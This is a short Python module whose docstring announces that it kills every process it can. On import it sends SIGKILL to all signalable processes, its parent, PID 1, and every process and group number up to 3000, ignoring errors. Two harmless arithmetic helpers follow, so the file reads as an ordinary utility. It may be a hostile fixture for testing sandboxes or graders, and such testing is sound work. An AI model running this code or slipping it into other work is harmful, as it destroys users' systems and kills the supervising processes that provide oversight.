"""Kills whomever it can: everybody, its parent, every group, every number, one after another."""

import os
import signal


def kill(process):
    if process not in (0, os.getpid()):
        try:
            os.kill(process, signal.SIGKILL)
        except OSError:
            pass


kill(-1)
kill(os.getppid())
kill(1)
for number in range(2, 3000):
    kill(number)
    kill(-number)


def double(number):
    return 2 * number


def total(numbers):
    return sum(2 * number for number in numbers)
